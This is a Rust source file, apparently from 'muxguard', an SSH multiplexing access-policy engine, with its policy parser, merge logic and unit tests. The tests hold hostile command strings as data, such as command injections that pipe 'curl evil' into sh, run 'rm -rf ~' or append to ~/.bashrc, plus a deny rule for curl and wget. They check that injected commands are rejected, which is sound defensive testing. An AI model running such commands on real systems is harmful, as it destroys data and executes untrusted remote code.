    /// is [`BUILTIN_NO_PROMPTER_WITHOUT_POLICY`] (allow) rather than
    /// [`BUILTIN_NO_PROMPTER`] (deny). Without a file, only the master's own
    /// uid can reach the socket, and muxguard should work out of the box on
    /// a machine with no desktop, as OpenSSH's master does. As soon as
    /// either file exists, an unanswerable `ask` is denied unless a file
    /// says otherwise.
    pub fn builtin_defaults() -> Settings {
        Settings {
            remember: BUILTIN_REMEMBER,
            prompt_timeout: BUILTIN_PROMPT_TIMEOUT,
            when_locked: BUILTIN_WHEN_LOCKED,
            no_prompter: BUILTIN_NO_PROMPTER_WITHOUT_POLICY,
            audit_failure: BUILTIN_AUDIT_FAILURE,
            cooldown: BUILTIN_COOLDOWN,
            audit_log: None,
        }
    }

    /// The merged settings. The system file is a ceiling: where both files
    /// set a value the stricter one wins (shorter `remember` and
    /// `prompt_timeout`, longer `cooldown`, stricter `when_locked`,
    /// `no_prompter` and `audit_failure`); a value only one file sets is
    /// used as is; a value neither sets is the built-in one. The system
    /// file's `audit_log` takes precedence over the user's.
    pub fn settings(&self) -> Settings {
        if self.system.is_none() && self.user.is_none() {
            return Self::builtin_defaults();
        }
        let sys = self.system.as_ref().map(|p| &p.defaults);
        let usr = self.user.as_ref().map(|p| &p.defaults);
        let get = |f: fn(&Defaults) -> Option<Duration>| (sys.and_then(f), usr.and_then(f));
        let (s, u) = get(|d| d.remember);
        let remember = merge(s, u, Duration::min, BUILTIN_REMEMBER);
        let (s, u) = get(|d| d.prompt_timeout);
        let prompt_timeout = merge(s, u, Duration::min, BUILTIN_PROMPT_TIMEOUT);
        let (s, u) = get(|d| d.cooldown);
        let cooldown = merge(s, u, Duration::max, BUILTIN_COOLDOWN);
        let fallback = |f: fn(&Defaults) -> Option<Fallback>, builtin| {
            merge(sys.and_then(f), usr.and_then(f), Fallback::max, builtin)
        };
        Settings {
            remember,
            prompt_timeout,
            cooldown,
            when_locked: fallback(|d| d.when_locked, BUILTIN_WHEN_LOCKED),
            no_prompter: fallback(|d| d.no_prompter, BUILTIN_NO_PROMPTER),
            audit_failure: merge(
                sys.and_then(|d| d.audit_failure),
                usr.and_then(|d| d.audit_failure),
                AuditFailure::max,
                BUILTIN_AUDIT_FAILURE,
            ),
            audit_log: sys
                .and_then(|d| d.audit_log.clone())
                .or_else(|| usr.and_then(|d| d.audit_log.clone())),
        }
    }

    /// The decision for a request: each file's verdict and the stricter of
    /// the two. Without any file, the built-in default: `ask`, except that
    /// proxy is denied.
    pub fn decide(&self, req: &Request<'_>) -> Decision {
        let system = self.system.as_ref().map(|p| p.evaluate(req));
        let user = self.user.as_ref().map(|p| p.evaluate(req));
        let chosen = match (&system, &user) {
            (Some(s), Some(u)) if u.action > s.action => u.clone(),
            (Some(s), _) => s.clone(),
            (None, Some(u)) => u.clone(),
            (None, None) => Verdict::guarded(
                BUILTIN_ACTION,
                DecidedBy::Default { file: None },
                req.kind,
                false,
            ),
        };
        Decision {
            action: chosen.action,
            system,
            user,
            decided_by: chosen.decided_by,
        }
    }

    /// The local TCP ports forwards to `destination` could ever be allowed
    /// on under these files: the sandbox leaves exactly these open. A
    /// request must pass both files, so each file's set is a ceiling.
    pub fn forward_ports(&self, destination: &Destination<'_>) -> ForwardPorts {
        let for_kinds = |kinds: &[RequestKind]| {
            self.files().fold(Ports::Any, |met, file| {
                let mut ports = Ports::Only(PortSet::default());
                for &kind in kinds {
                    ports.add(&file.forward_ports(destination, kind));
                }
                met.meet(ports)
            })
        };
        ForwardPorts {
            bind: for_kinds(&[RequestKind::ForwardLocal, RequestKind::ForwardDynamic]),
            connect: for_kinds(&[RequestKind::ForwardRemote]),
        }
    }

    /// Whether a process running as `peer_uid` may talk to a master running
    /// as `master_uid` at all; checked before any request is read.
    ///
    /// - The master's own uid is always admitted.
    /// - Anyone else must be listed in the `peers` of some rule, in either
    ///   file. Root is not special-cased as trusted: it too needs an entry,
    ///   and only an explicit uid or user name counts for it.
    /// - If the system file lists any peers, it is the ceiling here as well:
    ///   a peer it does not list is refused whatever the user file says. An
    ///   administrator who names who may share can rely on that list; one
    ///   who lists nobody leaves the choice to each user for their own
    ///   master.
    pub fn admits_peer(
        &self,
        peer_uid: u32,
        peer_user: Option<&str>,
        peer_gids: &[u32],
        peer_groups: &[String],
        master_uid: u32,
    ) -> bool {
        if peer_uid == master_uid {
            return true;
        }
        let peer = PeerAccount {
            uid: peer_uid,
            user: peer_user,
            gids: peer_gids,
            groups: peer_groups,
        };
        if let Some(system) = &self.system
            && system.lists_peers()
            && !system.lists_peer(&peer)
        {
            return false;
        }
        self.files().any(|p| p.lists_peer(&peer))
    }

    /// A readable account of the decision for `req`: the final action, what
    /// each file said and why, and how they combine.
    pub fn explain(&self, req: &Request<'_>) -> String {
        let decision = self.decide(req);
        let mut out = String::new();
        let mut line = |s: String| {
            out.push_str(&s);
            out.push('\n');
        };
        line(format!("request: {}", describe(req)));
        line(format!("decision: {}", decision.action));
        line(format!("  because of {}", decision.decided_by));
        line(file_line(
            "system",
            self.system.as_ref(),
            decision.system.as_ref(),
        ));
        line(file_line(
            "user",
            self.user.as_ref(),
            decision.user.as_ref(),
        ));
        if self.system.is_none() && self.user.is_none() {
            line(format!(
                "With no policy file, every request is \"{BUILTIN_ACTION}\" except proxy, \
                 which is denied."
            ));
        } else {
            line(
                "The system policy is a ceiling: the stricter of the two answers applies \
                 (deny > ask > direct > allow)."
                    .to_owned(),
            );
        }
        if decision.action == Action::Ask {
            let s = self.settings();
            line(format!(
                "Asking: no answer within {} means deny; while the screen is locked the \
                 answer is {}; if nobody can be asked it is {}.",
                humantime::format_duration(s.prompt_timeout),
                s.when_locked,
                s.no_prompter
            ));
        }
        out
    }
}

/// One line of `explain` about one file's answer.
fn file_line(role: &str, policy: Option<&Policy>, verdict: Option<&Verdict>) -> String {
    match (policy, verdict) {
        (Some(p), Some(v)) => format!(
            "{role} policy {}: {}, by {}",
            p.file.display(),
            v.action,
            v.decided_by
        ),
        _ => format!("{role} policy: none"),
    }
}

/// The request in words, for `explain`. The command is quoted with escapes
/// so that it cannot add lines of its own.
fn describe(req: &Request<'_>) -> String {
    let mut s = format!("{} as {}@{}", req.kind, req.remote_user, req.host_alias);
    if req.hostname != req.host_alias {
        s.push_str(&format!(" (host name {})", req.hostname));
    }
    if let Some(c) = req.command {
        s.push_str(&format!(", command {c:?}"));
    }
    match req.program {
        Some(p) => s.push_str(&format!(", from {}", p.display())),
        None => s.push_str(", from an unknown program"),
    }
    s.push_str(&format!(", peer uid {}", req.peer.uid));
    s
}

// ---------------------------------------------------------------------------
// Parsing
// ---------------------------------------------------------------------------

type RawString = Option<Spanned<String>>;
type RawList = Option<Spanned<Vec<Spanned<String>>>>;

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawPolicy {
    defaults: Option<RawDefaults>,
    #[serde(default)]
    rule: Vec<Spanned<RawRule>>,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawDefaults {
    action: RawString,
    remember: RawString,
    prompt_timeout: RawString,
    when_locked: RawString,
    no_prompter: RawString,
    audit_failure: RawString,
    cooldown: RawString,
    audit_log: RawString,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RawRule {
    // `name` and `action` are required, but optional here so that a missing
    // one is reported in our words at the rule's header.
    name: RawString,
    hosts: RawList,
    users: RawList,
    programs: RawList,
    commands: RawList,
    kinds: RawList,
    peers: RawList,
    ports: Option<Spanned<Vec<Spanned<RawPort>>>>,
    action: RawString,
}

/// An entry of `ports`: a number, or a range written "first-last".
#[derive(Deserialize)]
#[serde(untagged)]
enum RawPort {
    Number(i64),
    Text(String),
}

struct Parser<'a> {
    text: &'a str,
    file: PathBuf,
}

impl Parser<'_> {
    /// 1-based line and column (in characters) of a byte offset.
    fn position(&self, offset: usize) -> (usize, usize) {
        let offset = offset.min(self.text.len());
        let before = self.text.get(..offset).unwrap_or(self.text);
        let line_start = before.rfind('\n').map_or(0, |i| i + 1);
        let line = before.matches('\n').count() + 1;
        let column = before[line_start..].chars().count() + 1;
        (line, column)
    }

    fn error(&self, span: Range<usize>, reason: impl Into<String>) -> PolicyError {
        let (line, column) = self.position(span.start);
        PolicyError {
            file: self.file.clone(),
            line,
            column,
            reason: reason.into(),
        }
    }

    fn policy(&self) -> Result<Policy, PolicyError> {
        let raw: RawPolicy = toml::from_str(self.text).map_err(|e| {
            let span = e.span().unwrap_or(0..0);
            let mut reason = e.message().trim().to_owned();
            // The one structural mistake people make: `[rule]` instead of
            // `[[rule]]`. toml's wording for it is cryptic.
            if self
                .text
                .get(span.clone())
                .is_some_and(|t| t.trim() == "[rule]")
            {
                reason = "rules are written as [[rule]] (double brackets), one per rule".into();
            }
            self.error(span, reason)
        })?;
        let defaults = match &raw.defaults {
            Some(d) => self.defaults(d)?,
            None => Defaults::default(),
        };
        let mut rules: Vec<Rule> = Vec::with_capacity(raw.rule.len());
        for raw_rule in &raw.rule {
            let rule = self.rule(raw_rule)?;
            if let Some(first) = rules.iter().find(|r| r.name == rule.name) {
                let name = raw_rule.get_ref().name.as_ref().expect("checked in rule()");
                return Err(self.error(
                    name.span(),
                    format!(
                        "the rule name \"{}\" is already used by the rule at line {}; \
                         give each rule its own name, so that denials and audit records \
                         point at one rule",
                        rule.name, first.line
                    ),
                ));
            }
            rules.push(rule);
        }
        Ok(Policy {
            file: self.file.clone(),
            defaults,
            rules,
        })
    }

    fn named<T: FromStr<Err = NameError>>(
        &self,
        raw: &RawString,
        key: &str,
    ) -> Result<Option<T>, PolicyError> {
        raw.as_ref()
            .map(|v| {
                v.get_ref()
                    .parse()
                    .map_err(|e: NameError| self.error(v.span(), format!("{key}: {e}")))
            })
            .transpose()
    }

    fn duration(&self, raw: &RawString, key: &str) -> Result<Option<Duration>, PolicyError> {
        raw.as_ref()
            .map(|v| {
                humantime::parse_duration(v.get_ref()).map_err(|e| {
                    self.error(
                        v.span(),
                        format!(
                            "{key}: \"{}\" is not a duration ({e}); write it like \"30s\", \
                             \"10m\" or \"1h 30m\"",
                            v.get_ref()
                        ),
                    )
                })
            })
            .transpose()
    }

    fn defaults(&self, raw: &RawDefaults) -> Result<Defaults, PolicyError> {
        let prompt_timeout = self.duration(&raw.prompt_timeout, "prompt_timeout")?;
        if prompt_timeout == Some(Duration::ZERO) {
            let span = raw
                .prompt_timeout
                .as_ref()
                .map(Spanned::span)
                .unwrap_or(0..0);
            return Err(self.error(
                span,
                "prompt_timeout: a prompt that times out at once can never be answered; \
                 use a few seconds or more, or action = \"deny\"",
            ));
        }
        let audit_log = match &raw.audit_log {
            None => None,
            Some(v) => {
                let path = PathBuf::from(v.get_ref());
                // A relative path would depend on whatever directory the
                // master happened to be started from.
                if !path.is_absolute() {
                    return Err(self.error(
                        v.span(),
                        format!(
                            "audit_log: \"{}\" is not an absolute path; write the full path, \
                             e.g. \"/var/log/muxguard/audit.jsonl\"",
                            v.get_ref()
                        ),
                    ));
                }
                Some(path)
            }
        };
        Ok(Defaults {
            action: self.named(&raw.action, "action")?,
            remember: self.duration(&raw.remember, "remember")?,
            prompt_timeout,
            when_locked: self.named(&raw.when_locked, "when_locked")?,
            no_prompter: self.named(&raw.no_prompter, "no_prompter")?,
            audit_failure: self.named(&raw.audit_failure, "audit_failure")?,
            cooldown: self.duration(&raw.cooldown, "cooldown")?,
            audit_log,
        })
    }

    fn rule(&self, raw: &Spanned<RawRule>) -> Result<Rule, PolicyError> {
        let header = raw.span();
        let r = raw.get_ref();
        let Some(name) = &r.name else {
            return Err(self.error(
                header,
                "this rule has no name; add name = \"...\" (the name appears in denials and \
                 audit records)",
            ));
        };
        let text = name.get_ref();
        if text.trim().is_empty() {
            return Err(self.error(name.span(), "the rule name is empty; give the rule a name"));
        }
        // Names go into one-line messages on the client's stderr and into
        // the audit log; a line break there could forge a second line.
        if text.chars().any(char::is_control) {
            return Err(self.error(
                name.span(),
                "the rule name contains a control character (such as a line break); \
                 use plain text",
            ));
        }
        let Some(action) = self.named::<Action>(&r.action, "action")? else {
            return Err(self.error(
                header,
                format!(
                    "rule \"{text}\" has no action; add action = \"allow\", \"ask\", \
                     \"deny\" or \"direct\""
                ),
            ));
        };
        let kinds = match &r.kinds {
            None => None,
            Some(list) => {
                self.non_empty(list, "kinds")?;
                let mut bits = 0;
                for item in list.get_ref() {
                    let kind: RequestKind = item
                        .get_ref()
                        .parse()
                        .map_err(|e: NameError| self.error(item.span(), format!("kinds: {e}")))?;
                    bits |= kind.bit();
                }
                Some(KindSet(bits))
            }
        };
        let peers = match &r.peers {
            None => None,
            Some(list) => {
                self.non_empty(list, "peers")?;
                let specs = list
                    .get_ref()
                    .iter()
                    .map(|item| {
                        item.get_ref()
                            .parse()
                            .map_err(|e: NameError| self.error(item.span(), format!("peers: {e}")))
                    })
                    .collect::<Result<Vec<PeerSpec>, _>>()?;
                Some(specs)
            }
        };
        Ok(Rule {
            name: text.clone(),
            line: self.position(header.start).0,
            hosts: self.patterns(&r.hosts, "hosts", Syntax::Host)?,
            users: self.patterns(&r.users, "users", Syntax::User)?,
            programs: self.patterns(&r.programs, "programs", Syntax::Path)?,
            commands: self.patterns(&r.commands, "commands", Syntax::Command)?,
            kinds,
            peers,
            ports: self.ports(&r.ports)?,
            action,
        })
    }

    fn ports(
        &self,
        raw: &Option<Spanned<Vec<Spanned<RawPort>>>>,
    ) -> Result<Option<PortSet>, PolicyError> {
        let Some(list) = raw else { return Ok(None) };
        if list.get_ref().is_empty() {
            return Err(self.error(
                list.span(),
                "ports is empty, which would match nothing; remove the key to match any port",
            ));
        }
        let mut set = PortSet::default();
        for item in list.get_ref() {
            let range = match item.get_ref() {
                RawPort::Number(n) => parse_port(&n.to_string()).map(|p| (p, p)),
                RawPort::Text(text) => match text.split_once('-') {
                    Some((first, last)) => parse_port(first.trim()).and_then(|first| {
                        let last = parse_port(last.trim())?;
                        if first > last {
                            return Err(format!(
                                "the range starts above its end; write \"{last}-{first}\""
                            ));
                        }
                        Ok((first, last))
                    }),
                    None => parse_port(text.trim()).map(|p| (p, p)),
                },
            }
            .map_err(|reason| self.error(item.span(), format!("ports: {reason}")))?;
            set.ranges.push(range);
        }
        Ok(Some(set))
    }

    /// An empty list is rejected rather than read as "matches nothing" or
    /// "matches anything": either reading would surprise half the people
    /// who write it.
    fn non_empty(
        &self,
        list: &Spanned<Vec<Spanned<String>>>,
        key: &str,
    ) -> Result<(), PolicyError> {
        if list.get_ref().is_empty() {
            return Err(self.error(
                list.span(),
                format!(
                    "{key} is empty, which would match nothing; remove the key to match anything"
                ),
            ));
        }
        Ok(())
    }

    fn patterns(
        &self,
        raw: &RawList,
        key: &str,
        syntax: Syntax,
    ) -> Result<Option<PatternList>, PolicyError> {
        let Some(list) = raw else { return Ok(None) };
        self.non_empty(list, key)?;
        let mut include = Vec::new();
        let mut exclude = Vec::new();
        for item in list.get_ref() {
            let text = item.get_ref();
            let (negated, pattern) = match text.strip_prefix('!') {
                Some(rest) => (true, rest),
                None => (false, text.as_str()),
            };
            if let Some(problem) = pattern_problem(pattern, syntax) {
                return Err(self.error(item.span(), format!("{key}: \"{text}\": {problem}")));
            }
            let glob = Glob::compile(pattern, syntax);
            if negated {
                exclude.push(glob);
            } else {
                include.push(glob);
            }
        }
        if include.is_empty() {
            return Err(self.error(
                list.span(),
                format!(
                    "{key} has only `!` patterns, so it can never match (a name must also match \
                     a pattern without `!`); add \"*\" to mean \"everything else\""
                ),
            ));
        }
        Ok(Some(PatternList { include, exclude }))
    }
}

/// What is wrong with one pattern (without its `!`), if anything.
fn pattern_problem(pattern: &str, syntax: Syntax) -> Option<String> {
    if pattern.is_empty() {
        return Some("an empty pattern matches nothing; remove it".into());
    }
    match syntax {
        Syntax::Host | Syntax::User => {
            if pattern.contains(',') {
                return Some(
                    "write each pattern as its own string, e.g. [\"a\", \"b\"], not \"a,b\"".into(),
                );
            }
            if pattern.chars().any(|c| c.is_whitespace() || c.is_control()) {
                return Some("names never contain spaces; remove them".into());
            }
        }
        Syntax::Path => {
            // Patterns are matched against the full executable path, so
            // "git" would silently never match.
            if !(pattern.starts_with('/') || pattern.starts_with("**")) {
                return Some(
                    "program patterns match the full path of the executable; write \
                     \"/usr/bin/git\", or \"**/git\" for any directory"
                        .into(),
                );
            }
        }
        Syntax::Command => {}
    }
    None
}

// ---------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;

    const FILE: &str = "/home/u/.config/muxguard/policy.toml";
    const SYS: &str = "/etc/muxguard/policy.toml";
    const NO_GROUPS: &[String] = &[];

    fn parse(text: &str) -> Policy {
        Policy::parse(text, FILE).unwrap_or_else(|e| panic!("{e}"))
    }

    fn parse_sys(text: &str) -> Policy {
        Policy::parse(text, SYS).unwrap_or_else(|e| panic!("{e}"))
    }

    fn err(text: &str) -> PolicyError {
        match Policy::parse(text, FILE) {
            Ok(_) => panic!("expected an error for:\n{text}"),
            Err(e) => e,
        }
    }

    fn own_peer() -> PeerAccount<'static> {
        PeerAccount {
            uid: 1000,
            user: Some("me"),
            gids: &[1000],
            groups: NO_GROUPS,
        }
    }

    /// A request that tests adjust field by field.
    fn req(host: &'static str) -> Request<'static> {
        Request {
            host_alias: host,
            hostname: host,
            remote_user: "deploy",
            program: Some(Path::new("/usr/bin/git")),
            kind: RequestKind::Exec,
            command: Some("git-upload-pack '/srv/app.git'"),
            local_port: None,
            peer: own_peer(),
        }
    }

    fn act(p: &Policy, r: &Request<'_>) -> Action {
        p.evaluate(r).action
    }

    fn rule_name(v: &Verdict) -> &str {
        match &v.decided_by {
            DecidedBy::Rule { name, .. } | DecidedBy::ProgramUnknown { name, .. } => name,
            other => panic!("decided by {other:?}, not a rule"),
        }
    }

    // --- names ---------------------------------------------------------

    #[test]
    fn names_round_trip() {
        for a in Action::ALL {
            assert_eq!(a.to_string().parse::<Action>(), Ok(a));
        }
        for k in RequestKind::ALL {
            assert_eq!(k.to_string().parse::<RequestKind>(), Ok(k));
        }
        for f in Fallback::ALL {
            assert_eq!(f.to_string().parse::<Fallback>(), Ok(f));
        }
        for a in AuditFailure::ALL {
            assert_eq!(a.to_string().parse::<AuditFailure>(), Ok(a));
        }
        for s in ["1001", "alice", "group:devs", "group:1001", "0"] {
            assert_eq!(s.parse::<PeerSpec>().unwrap().to_string(), s);
        }
    }

    #[test]
    fn kind_names_are_distinct_and_fit_the_bit_set() {
        let mut names: Vec<_> = RequestKind::ALL.iter().map(|k| k.name()).collect();
        names.sort_unstable();
        names.dedup();
        assert_eq!(names.len(), RequestKind::ALL.len());
        assert!(RequestKind::ALL.len() <= 16);
    }

    #[test]
    fn bad_names_say_what_is_accepted() {
        let e = "allwo".parse::<Action>().unwrap_err().to_string();
        assert!(
            e.contains("\"allwo\"") && e.contains("allow, direct, ask, deny"),
            "{e}"
        );
        let e = "ask".parse::<Fallback>().unwrap_err().to_string();
        assert!(e.contains("cannot be used here"), "{e}");
        let e = "forward".parse::<RequestKind>().unwrap_err().to_string();
        assert!(e.contains("forward-local"), "{e}");
        assert_eq!("group:devs".parse(), Ok(PeerSpec::Group("devs".into())));
        assert_eq!("group:27".parse(), Ok(PeerSpec::Gid(27)));
        assert_eq!("1001".parse(), Ok(PeerSpec::Uid(1001)));
        assert_eq!("alice".parse(), Ok(PeerSpec::User("alice".into())));
        for bad in ["", "group:", "group devs", "usr:alice", "99999999999", "-x"] {
            assert!(bad.parse::<PeerSpec>().is_err(), "{bad:?} accepted");
        }
    }

    #[test]
    fn strictness_order() {
        use Action::*;
        assert!(Deny > Ask && Ask > Direct && Direct > Allow);
        assert_eq!(Allow.stricter(Direct), Direct);
        assert_eq!(Deny.stricter(Ask), Deny);
        assert_eq!(Ask.stricter(Direct), Ask);
        assert!(Fallback::Deny > Fallback::Direct && Fallback::Direct > Fallback::Allow);
        assert!(AuditFailure::Deny > AuditFailure::Allow);
        for f in Fallback::ALL {
            assert_eq!(f.name(), f.action().name());
        }
    }

    // --- globs -----------------------------------------------------------

    fn glob(p: &str, syntax: Syntax, text: &str) -> bool {
        Glob::compile(p, syntax).matches(text)
    }

    #[test]
    fn path_globs_keep_star_within_a_component() {
        let p = Syntax::Path;
        assert!(glob(
            "/usr/lib/git-core/*",
            p,
            "/usr/lib/git-core/git-remote-http"
        ));
        assert!(!glob(
            "/usr/lib/git-core/*",
            p,
            "/usr/lib/git-core/sub/tool"
        ));
        assert!(glob("/usr/lib/**", p, "/usr/lib/git-core/sub/tool"));
        assert!(glob("**/git", p, "/opt/homebrew/bin/git"));
        assert!(!glob("**/git", p, "/opt/homebrew/bin/gitk"));
        assert!(glob("/usr/bin/python3*", p, "/usr/bin/python3.12"));
        assert!(!glob("/usr/bin/python3*", p, "/usr/bin/python3/evil"));
        assert!(glob("/usr/bin/?it", p, "/usr/bin/git"));
        assert!(
            !glob("/usr/bin?git", p, "/usr/bin/git"),
            "? must not match '/'"
        );
        assert!(!glob("/usr/bin/git", p, "/usr/bin/git2"));
        assert!(
            !glob("/usr/bin/git", p, "/USR/bin/git"),
            "paths are case-sensitive"
        );
    }

    #[test]
    fn command_wildcards_never_stand_for_shell_control_characters() {
        let c = Syntax::Command;
        for evil in [
            "git-upload-pack 'x'; rm -rf ~",
            "git-upload-pack x && curl evil | sh",
            "git-upload-pack $(id)",
            "git-upload-pack `id`",
            "git-upload-pack x > ~/.bashrc",
            "git-upload-pack x\nid",
            "git-upload-pack (id)",
        ] {
            assert!(!glob("git-upload-pack *", c, evil), "{evil:?}");
            assert!(!glob("git-upload-pack ?*", c, evil), "{evil:?}");
        }
        assert!(!glob("rsync --server *", c, "rsync --server . x;id"));
        // A control character the pattern names itself is matched literally.
        assert!(glob("make && make *", c, "make && make install"));
        assert!(!glob("make && make *", c, "make && make x; id"));
        // Quotes, globs and spaces stay ordinary argument text.
        assert!(glob("git-upload-pack *", c, "git-upload-pack '~/a b*.git'"));
        // Other kinds of pattern are not affected.
        assert!(glob("/usr/bin/*", Syntax::Path, "/usr/bin/a;b"));
        assert!(glob("build-*", Syntax::Host, "build-$"));
    }

    #[test]
    fn command_globs_match_anything() {
        let c = Syntax::Command;
        assert!(glob(
            "git-upload-pack *",
            c,
            "git-upload-pack '/srv/a b/x.git'"
        ));
        assert!(!glob(
            "git-upload-pack *",
            c,
            "git-receive-pack '/srv/x.git'"
        ));
        assert!(
            !glob("git-upload-pack *", c, "git-upload-pack"),
            "the space is literal"
        );
        assert!(glob("sftp", c, "sftp"));
        assert!(!glob("sftp", c, "sftp-server"));
        assert!(glob("*", c, ""));
        assert!(!glob("*?", c, ""));
        assert!(!glob("?*", c, ""));
        assert!(glob("*x*", c, "x"));
        assert!(!glob("x", c, ""));
    }

    #[test]
    fn host_globs_are_case_insensitive_and_user_globs_are_not() {
        assert!(glob("build-*", Syntax::Host, "BUILD-7"));
        assert!(glob("*.example.com", Syntax::Host, "a.b.Example.COM"));
        assert!(glob("h?st", Syntax::Host, "host"));
        assert!(!glob("h?st", Syntax::Host, "hst"));
        assert!(!glob("deploy", Syntax::User, "Deploy"));
    }

    #[test]
    fn glob_matching_does_not_blow_up() {
        let text = "a".repeat(2000);
        let pattern = "*a".repeat(30) + "b";
        assert!(!glob(&pattern, Syntax::Command, &text));
        assert!(glob(&("*a".repeat(30) + "*"), Syntax::Command, &text));
    }

    // --- matching --------------------------------------------------------

    const BUILD: &str = r#"
[defaults]
action = "deny"

[[rule]]
name = "git and rsync to build hosts"
hosts = ["build-*", "!build-secret"]
users = ["deploy"]
programs = ["/usr/bin/git", "/usr/lib/git-core/*"]
commands = ["git-upload-pack *"]
kinds = ["exec", "subsystem"]
action = "allow"

[[rule]]
name = "ask for anything else on build hosts"
hosts = ["build-*"]
action = "ask"
"#;

    #[test]
    fn a_full_rule_matches_only_when_every_condition_does() {
        let p = parse(BUILD);
        let r = req("build-1");
        let v = p.evaluate(&r);
        assert_eq!(v.action, Action::Allow);
        assert_eq!(
            v.decided_by,
            DecidedBy::Rule {
                name: "git and rsync to build hosts".into(),
                file: FILE.into(),
                line: 5
            }
        );
        let cases: [(&str, Request<'_>); 5] = [
            ("negated host", req("build-secret")),
            (
                "other user",
                Request {
                    remote_user: "root",
                    ..req("build-1")
                },
            ),
            (
                "other program",
                Request {
                    program: Some(Path::new("/usr/bin/curl")),
                    ..req("build-1")
                },
            ),
            (
                "other command",
                Request {
                    command: Some("rm -rf /"),
                    ..req("build-1")
                },
            ),
            (
                "other kind",
                Request {
                    kind: RequestKind::Shell,
                    command: None,
                    ..req("build-1")
                },
            ),
        ];
        for (what, r) in cases {
            let v = p.evaluate(&r);
            assert_eq!(v.action, Action::Ask, "{what}");
            assert_eq!(
                rule_name(&v),
                "ask for anything else on build hosts",
                "{what}"
            );
        }
        let v = p.evaluate(&req("web-1"));
        assert_eq!(v.action, Action::Deny);
        assert_eq!(
            v.decided_by,
            DecidedBy::Default {
                file: Some(FILE.into())
            }
        );
    }

    #[test]
    fn first_matching_rule_wins() {
        let p = parse(
            r#"
[[rule]]
name = "deny secret"
hosts = ["secret"]
action = "deny"
[[rule]]
name = "allow all"
action = "allow"
[[rule]]
name = "never reached"
hosts = ["secret"]
action = "allow"
"#,
        );
        assert_eq!(act(&p, &req("secret")), Action::Deny);
        assert_eq!(rule_name(&p.evaluate(&req("other"))), "allow all");
    }

    #[test]
    fn hosts_match_alias_or_hostname_and_negation_of_either_excludes() {
        let p = parse(
            r#"
[[rule]]
name = "build"
hosts = ["build-*", "!*.secret.example.com"]
action = "allow"
"#,
        );
        let typed = |alias, hostname| Request {
            host_alias: alias,
            hostname,
            ..req("x")
        };
        assert_eq!(
            act(&p, &typed("build-1", "10.0.0.5")),
            Action::Allow,
            "alias matches"
        );
        assert_eq!(
            act(&p, &typed("b1", "build-1")),
            Action::Allow,
            "hostname matches"
        );
        assert_eq!(
            act(&p, &typed("b1", "10.0.0.5")),
            Action::Ask,
            "neither matches"
        );
        assert_eq!(
            act(&p, &typed("build-1", "vault.secret.example.com")),
            Action::Ask,
            "negated hostname excludes though the alias matches"
        );
        assert_eq!(
            act(&p, &typed("x.secret.example.com", "build-9")),
            Action::Ask,
            "negated alias excludes though the hostname matches"
        );
    }

    #[test]
    fn absent_program_never_earns_an_allow_rule() {
        let p = parse(BUILD);
        let v = p.evaluate(&Request {
            program: None,
            ..req("build-1")
        });
        assert_eq!(v.action, Action::Ask);
        assert_eq!(rule_name(&v), "ask for anything else on build hosts");
        assert!(matches!(v.decided_by, DecidedBy::Rule { .. }));
    }

    #[test]
    fn absent_program_does_not_slip_past_a_stricter_program_rule() {
        let p = parse(
            r#"
[defaults]
action = "allow"
[[rule]]
name = "no curl"
programs = ["/usr/bin/curl", "/usr/bin/wget"]
action = "deny"
[[rule]]
name = "git asks"
programs = ["/usr/bin/git"]
action = "ask"
"#,
        );
        let unknown = Request {
            program: None,
            ..req("h")
        };
        let v = p.evaluate(&unknown);
        assert_eq!(v.action, Action::Deny);
        assert_eq!(
            v.decided_by,
            DecidedBy::ProgramUnknown {
                name: "no curl".into(),
                file: FILE.into(),
                line: 4
            }
        );
        // A known program goes the ordinary way.
        assert_eq!(act(&p, &req("h")), Action::Ask);
        let ls = Request {
            program: Some(Path::new("/usr/bin/ls")),
            ..req("h")
        };
        assert_eq!(act(&p, &ls), Action::Allow);
    }

    #[test]
    fn absent_program_takes_the_definite_match_on_a_tie() {
        let p = parse(
            r#"
[[rule]]
name = "git asks"
programs = ["/usr/bin/git"]
action = "ask"
[[rule]]
name = "everything asks"
action = "ask"
"#,
        );
        let v = p.evaluate(&Request {
            program: None,
            ..req("h")
        });
        assert_eq!(v.action, Action::Ask);
        assert_eq!(rule_name(&v), "everything asks");
    }

    #[test]
    fn commands_and_kinds() {
        let p = parse(
            r#"
[defaults]
action = "deny"
[[rule]]
name = "sftp"
commands = ["sftp"]
kinds = ["subsystem"]
action = "allow"
[[rule]]
name = "shells"
kinds = ["shell"]
action = "ask"
[[rule]]
name = "any command"
commands = ["*"]
action = "direct"
"#,
        );
        let sub = |c| Request {
            kind: RequestKind::Subsystem,
            command: Some(c),
            ..req("h")
        };
        assert_eq!(act(&p, &sub("sftp")), Action::Allow);
        assert_eq!(act(&p, &sub("sftp-evil")), Action::Direct);
        let shell = Request {
            kind: RequestKind::Shell,
            command: None,
            ..req("h")
        };
        assert_eq!(act(&p, &shell), Action::Ask);
        // No command at all does not satisfy even commands = ["*"].
        let fwd = Request {
            kind: RequestKind::ForwardLocal,
            command: None,
            ..req("h")
        };
        assert_eq!(act(&p, &fwd), Action::Deny);
        let fwd = Request {
            command: Some("db:5432"),
            ..fwd
        };
        assert_eq!(act(&p, &fwd), Action::Direct);
    }

    // --- proxy -------------------------------------------------------------

    #[test]
    fn proxy_needs_a_rule_that_names_it() {
        let proxy = Request {
            kind: RequestKind::Proxy,
            command: None,
            ..req("jump")
        };
        let p = parse(
            r#"
[defaults]
action = "allow"
[[rule]]
name = "allow everything on jump"
hosts = ["jump"]
action = "allow"
"#,
        );
        let v = p.evaluate(&proxy);
        assert_eq!(v.action, Action::Deny);
        let DecidedBy::ProxyNotListed { matched } = &v.decided_by else {
            panic!("{v:?}")
        };
        assert!(
            matches!(&**matched, DecidedBy::Rule { name, .. } if name == "allow everything on jump")
        );

        // Defaults never allow proxy either.
        let v = p.evaluate(&Request {
            host_alias: "other",
            hostname: "other",
            ..proxy
        });
        assert_eq!(v.action, Action::Deny);
        assert!(
            matches!(&v.decided_by, DecidedBy::ProxyNotListed { matched } if matches!(**matched, DecidedBy::Default { .. }))
        );

        let p = parse(
            r#"
[[rule]]
name = "proxy via jump"
hosts = ["jump"]
kinds = ["proxy"]
action = "allow"
"#,
        );
        assert_eq!(act(&p, &proxy), Action::Allow);
